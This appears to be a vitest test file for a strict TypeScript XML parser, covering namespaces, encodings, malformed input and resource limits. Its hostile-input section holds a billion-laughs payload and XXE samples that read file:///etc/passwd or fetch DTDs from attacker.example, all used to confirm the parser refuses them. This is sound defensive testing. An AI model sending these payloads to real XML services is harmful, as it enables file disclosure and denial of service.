import { describe, expect, it } from 'vitest';
import { DEFAULT_XML_LIMITS, XmlError, type XmlErrorCode, parseXml } from '../src/index';

const code = (f: () => unknown): XmlErrorCode | undefined => {
  try {
    f();
  } catch (e) {
    if (e instanceof XmlError) return e.code;
    throw e;
  }
  return undefined;
};
const enc = (s: string) => new TextEncoder().encode(s);

describe('parseXml: the tree', () => {
  it('keeps namespaces, prefixes, attributes, declarations, text, comments and PIs with parent links and order', () => {
    const doc = parseXml(
      '<?pi a?><r xmlns="urn:d" xmlns:p="urn:p" p:a="1" b="2"><p:c>t<![CDATA[<x>]]>u</p:c><!--k--><?q?></r>',
    );
    expect(doc.children.map((c) => c.kind)).toEqual(['pi', 'element']);
    const r = doc.root;
    expect([r.namespaceURI, r.prefix, r.localName]).toEqual(['urn:d', '', 'r']);
    expect(r.namespaces).toEqual([
      { prefix: '', uri: 'urn:d' },
      { prefix: 'p', uri: 'urn:p' },
    ]);
    expect(r.attributes.map((a) => [a.name, a.namespaceURI, a.value])).toEqual([
      ['p:a', 'urn:p', '1'],
      ['b', '', '2'],
    ]);
    expect(r.getAttribute('a', 'urn:p')).toBe('1');
    const c = r.elements('c', 'urn:p')[0]!;
    expect(c.parent).toBe(r);
    expect(c.children).toHaveLength(1); // text and CDATA merged
    expect(c.textContent).toBe('t<x>u');
    expect(r.children.map((n) => n.kind)).toEqual(['element', 'comment', 'pi']);
    expect(r.children.map((n) => n.order)).toEqual([3, 5, 6]);
    expect(r.order).toBe(2);
    expect(r.lastOrder).toBe(6);
    expect(doc.nodeCount).toBe(10);
  });

  it('normalises attribute values (§3.3.3) and line ends (§2.11)', () => {
    const doc = parseXml('<a x="1&#9;2\t3\r\n4&#13;5&#10;6">l1\r\nl2\rl3&#13;</a>');
    expect(doc.root.getAttribute('x')).toBe('1\t2 3 4\r5\n6');
    expect(doc.root.textContent).toBe('l1\nl2\nl3\r');
  });

  it('decodes UTF-8 with and without BOM, UTF-16 with BOM, ISO-8859-1, windows-1252 and ISO-8859-2', () => {
    expect(parseXml(new Uint8Array([0xef, 0xbb, 0xbf, ...enc('<a>ñ</a>')])).root.textContent).toBe('ñ');
    expect(parseXml(enc('<a>ñ</a>')).root.textContent).toBe('ñ');
    const utf16le = new Uint8Array([0xff, 0xfe, ...[...'<a>ñ</a>'].flatMap((ch) => [ch.charCodeAt(0), 0])]);
    expect(parseXml(utf16le)).toMatchObject({ encoding: 'UTF-16LE' });
    expect(parseXml(utf16le).root.textContent).toBe('ñ');
    const utf16be = new Uint8Array([0xfe, 0xff, ...[...'<a>ñ</a>'].flatMap((ch) => [0, ch.charCodeAt(0)])]);
    expect(parseXml(utf16be).root.textContent).toBe('ñ');
    const latin = (label: string, byte: number) =>
      parseXml(
        new Uint8Array([...enc(`<?xml version="1.0" encoding="${label}"?><a>`), byte, ...enc('</a>')]),
      );
    expect(latin('ISO-8859-1', 0xf1).root.textContent).toBe('ñ');
    // True ISO-8859-1: 0x80 is U+0080, not the euro sign windows-1252 (and TextDecoder's "latin1") gives.
    expect(latin('ISO-8859-1', 0x80).root.textContent).toBe('\u0080');
    expect(latin('windows-1252', 0x80).root.textContent).toBe('€');
    expect(latin('ISO-8859-2', 0xb3)).toMatchObject({ encoding: 'ISO-8859-2' });
    expect(latin('ISO-8859-2', 0xb3).root.textContent).toBe('ł');
    expect(parseXml('\ufeff<a/>').root.name).toBe('a');
  });

  it('refuses unknown encodings, UTF-16 without BOM, contradictions and invalid bytes', () => {
    expect(code(() => parseXml(enc('<?xml version="1.0" encoding="Shift_JIS"?><a/>')))).toBe(
      'UNSUPPORTED_ENCODING',
    );
    expect(code(() => parseXml(new Uint8Array([0x3c, 0, 0x61, 0, 0x2f, 0, 0x3e, 0])))).toBe(
      'UNSUPPORTED_ENCODING',
    );
    expect(
      code(() =>
        parseXml(
          new Uint8Array([0xef, 0xbb, 0xbf, ...enc('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')]),
        ),
      ),
    ).toBe('UNSUPPORTED_ENCODING');
    expect(code(() => parseXml(new Uint8Array([...enc('<a>'), 0xff, ...enc('</a>')])))).toBe('MALFORMED');
    expect(
      code(() =>
        parseXml(
          new Uint8Array([...enc('<?xml version="1.0" encoding="US-ASCII"?><a>'), 0xe9, ...enc('</a>')]),
        ),
      ),
    ).toBe('MALFORMED');
  });
});

describe('parseXml: strictness (malformed input is refused, never repaired)', () => {
  it.each([
    ['mismatched tag', '<a><b></a>'],
    ['two roots', '<a/><b/>'],
    ['unclosed root', '<a><b/>'],
    ['no root', '<!-- only a comment -->'],
    ['empty', ''],
    ['unquoted attribute', '<a x=1/>'],
    ['duplicate attribute', '<a x="1" x="2"/>'],
    ['duplicate expanded attribute name', '<a xmlns:p="u" xmlns:q="u" p:x="1" q:x="2"/>'],
    ['unknown entity', '<a>&foo;</a>'],
    ['prototype-named entity', '<a>&constructor;</a>'],
    ['undeclared prefix', '<p:a/>'],
    ['< in an attribute', '<a b="<"/>'],
    [']]> in text', '<a>]]></a>'],
    ['text before the root', 'x<a/>'],
    ['-- in a comment', '<a><!-- a -- b --></a>'],
    ['NUL character reference', '<a>&#0;</a>'],
    ['XML declaration not first', ' <?xml version="1.0"?><a/>'],
    ['bad name', '<1a/>'],
    ['undeclaring a prefix', '<a xmlns:p=""/>'],
  ])('%s', (_, xml) => {
    expect(code(() => parseXml(xml))).toBe('MALFORMED');
  });
});

describe('parseXml: hostile input ends in XmlError quickly, with bounded memory', () => {
  const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;

  it.each([
    ['billion laughs', laughs],
    ['XXE (external general entity)', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['external DTD', '<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a/>'],
    [
      'parameter entity (out-of-band XXE)',
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><a/>',
    ],
    ['DOCTYPE without subset', '<!DOCTYPE a><a/>'],
    ['DOCTYPE after a comment', '<!-- x --><!DOCTYPE a><a/>'],
  ])('%s is DOCTYPE_FORBIDDEN', (_, xml) => {
    const t = performance.now();
    expect(code(() => parseXml(xml))).toBe('DOCTYPE_FORBIDDEN');
    expect(code(() => parseXml(enc(xml)))).toBe('DOCTYPE_FORBIDDEN');
    expect(performance.now() - t).toBeLessThan(100);
  });

  it('a billion laughs with a 10 MB internal subset is refused without expanding anything', () => {
    const subset = `<!ENTITY a "${'x'.repeat(10_000_000)}">`;
    const before = process.memoryUsage().heapUsed;
    const t = performance.now();
    expect(code(() => parseXml(`<!DOCTYPE a [${subset}]><a>&a;&a;&a;</a>`))).toBe('DOCTYPE_FORBIDDEN');
    expect(performance.now() - t).toBeLessThan(2000);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(200 * 1024 * 1024);
  });

  it('XInclude and schemaLocation are inert: nothing is fetched, they stay plain markup', () => {
    const doc = parseXml(
      '<a xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://attacker.example/x.xsd"><xi:include href="file:///etc/passwd" parse="text"/></a>',
    );
    expect(doc.root.elements()[0]?.localName).toBe('include');
    expect(doc.root.textContent).toBe('');
  });

  it('enforces size, depth, node count, attribute count and name length', () => {
    expect(code(() => parseXml('<a/>', { maxBytes: 3 }))).toBe('TOO_LARGE');
    expect(code(() => parseXml(new Uint8Array(100), { maxBytes: 99 }))).toBe('TOO_LARGE');
    const deep = `${'<a>'.repeat(300)}${'</a>'.repeat(300)}`;
    expect(code(() => parseXml(deep))).toBe('TOO_DEEP');
    expect(parseXml(deep, { maxDepth: 300 }).root.name).toBe('a');
    expect(code(() => parseXml(`<a>${'<b/>'.repeat(100)}</a>`, { maxNodes: 50 }))).toBe('TOO_MANY_NODES');
    const attrs = Array.from({ length: 300 }, (_, i) => ` a${i}="x"`).join('');
    expect(code(() => parseXml(`<a${attrs}/>`))).toBe('TOO_MANY_ATTRIBUTES');
    expect(code(() => parseXml(`<${'n'.repeat(2000)}/>`))).toBe('NAME_TOO_LONG');
    expect(DEFAULT_XML_LIMITS.maxBytes).toBe(50 * 1024 * 1024);
  });

  it('a million-element flood stops at the node limit', () => {
    const t = performance.now();
    expect(code(() => parseXml(`<a>${'<b/>'.repeat(1_100_000)}</a>`))).toBe('TOO_MANY_NODES');
    expect(performance.now() - t).toBeLessThan(5000);
  });
});
